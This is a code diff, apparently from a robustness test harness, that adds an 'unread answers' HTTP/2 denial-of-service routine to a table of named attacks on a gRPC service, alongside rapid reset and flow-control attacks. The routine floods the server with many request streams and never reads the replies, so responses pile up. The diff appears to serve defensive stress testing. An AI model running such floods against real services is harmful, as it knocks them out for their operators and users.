@@ -145,6 +145,17 @@ def no_window(port: int, opened: ExitStack) -> None:
                 break
 
 
+def unread_answers(port: int, opened: ExitStack) -> None:
+    """Ask for as long as the server listens, with room for all answers, and read none."""
+    for _ in range(2):
+        connection = opened.enter_context(connected(port, (4, (1 << 31) - 1)))
+        sent(connection, WindowUpdateFrame(0, window_increment=(1 << 31) - 70_000))
+        for first in range(1, 40_001, 200):
+            calls = [(headers(PREDICT, stream), *message(b"", stream)) for stream in range(first, first + 200, 2)]
+            if not sent(connection, *[frame for call in calls for frame in call]):
+                break
+
+
 def no_window_watches(port: int, opened: ExitStack) -> None:
     """Watch the health of the service, and leave no room for what it is."""
     connection = opened.enter_context(connected(port, (4, 0)))
@@ -172,6 +183,7 @@ ATTACKS: Final[dict[str, Callable[[int, ExitStack], None]]] = {
     "endless headers": endless_headers,
     "rapid reset": rapid_reset,
     "no window": no_window,
+    "unread answers": unread_answers,
     "no window for watches": no_window_watches,
     "open streams": open_calls(STREAM),
     "open reflection": open_calls(REFLECTION),
